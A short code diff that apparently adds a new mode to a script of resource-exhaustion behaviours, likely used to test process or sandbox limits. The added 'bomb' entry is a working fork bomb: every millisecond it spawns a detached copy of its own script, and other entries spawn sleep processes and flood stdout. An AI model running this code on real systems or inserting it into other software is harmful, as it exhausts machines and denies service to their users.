@@ -19,6 +19,9 @@ const ways = {
     for (let i = 0; i < 20; i++) require("child_process").spawn("sleep", ["1000"], { detached: true, stdio: "ignore" }).unref();
     console.log("forked 20");
   },
+  bomb: () => setInterval(() => {
+    require("child_process").spawn(process.argv[1], ["bomb"], { detached: true, stdio: "ignore" }).on("error", () => {});
+  }, 1),
   flood: () => {
     for (let i = 0; i < 4; i++) process.stdout.write("x".repeat(1_000_000));
     console.error("end");
